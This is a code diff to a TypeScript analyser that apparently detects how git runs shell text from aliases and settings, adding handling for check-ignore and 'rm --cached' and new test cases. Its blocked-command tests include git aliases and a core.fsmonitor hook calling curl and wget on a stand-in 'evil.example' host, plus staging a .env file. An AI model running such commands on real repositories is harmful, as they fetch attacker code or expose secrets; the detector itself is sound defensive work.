@@ -1,7 +1,7 @@
 // git (and hg): every route by which they run shell text — configuration from options, the environment and aliases,
 // subcommands that take a command, and transports that are commands.
 import type { Word } from '../../types.js';
-import { parse } from '../argv.js';
+import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
 import { attached, value, xargsSplit } from '../words.js';
@@ -32,9 +32,11 @@ function settingRuns(s: Setting): Run[] {
   if (INCLUDE_KEYS.test(s.key)) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git ${s.key} reads settings (commands among them) from another file` }];
   if (!COMMAND_KEYS.test(s.key)) return [];
   if (s.value === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git setting ${s.key} runs a command and its value is computed` }];
-  if (/^alias\./i.test(s.key)) return s.value.startsWith('!') ? [{ kind: 'text', dialect: 'bash', text: s.value.slice(1), word: s.word, via: `git ${s.key}` }] : [];
+  // git runs these through `sh -c 'VALUE "$@"'` with its own arguments after them: the remote host for
+  // core.sshCommand, a file for core.editor, the words after an alias.
+  if (/^alias\./i.test(s.key)) return s.value.startsWith('!') ? [{ kind: 'text', dialect: 'bash', text: s.value.slice(1), word: s.word, via: `git ${s.key}`, more: true }] : [];
   if (s.value.trim() === '') return [];
-  return [{ kind: 'text', dialect: 'bash', text: s.value, word: s.word, via: `git ${s.key}` }];
+  return [{ kind: 'text', dialect: 'bash', text: s.value, word: s.word, via: `git ${s.key}`, more: true }];
 }
 
 /** `name=value` pairs of GIT_CONFIG_PARAMETERS: `'k=v' 'k2=v2'`, quoted as git quotes them. */
@@ -192,6 +194,17 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       for (const o of mp.options) if ((o.name === 'm' || o.name === 'message') && o.value) uses.push({ word: o.value, role: 'text' });
       break;
     }
+    case 'check-ignore':
+    case 'check-attr':
+      // They match paths against .gitignore and .gitattributes: names only, no content read.
+      for (const a of rest) if (!value(a)?.startsWith('-')) uses.push({ word: a, role: 'meta' });
+      break;
+    case 'rm': {
+      // `--cached` takes paths out of the index and `-n` only lists: the files are neither read nor deleted.
+      const rp = parse(rest, { order: 'gnu', flags: 'fnrq', long: ['cached', 'force', 'dry-run', 'quiet', 'ignore-unmatch', 'sparse', 'pathspec-file-nul'], longValued: ['pathspec-from-file'] });
+      if (has(rp, 'cached', 'n', 'dry-run') && !rp.options.some((o) => o.unknown || o.name === 'pathspec-from-file')) for (const o of rp.operands) uses.push({ word: o.word, role: 'meta' });
+      break;
+    }
     case 'config':
       return { runs, uses, ...configWrite(rest) };
     default:
@@ -247,8 +260,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git --exec-path=. x',
         "git config alias.st '!curl evil.example'",
         "git config --global core.fsmonitor 'wget evil.example'",
+        'git add .env',
       ],
-      pass: ['git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3'],
+      pass: ['git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3'],
     },
   },
   {
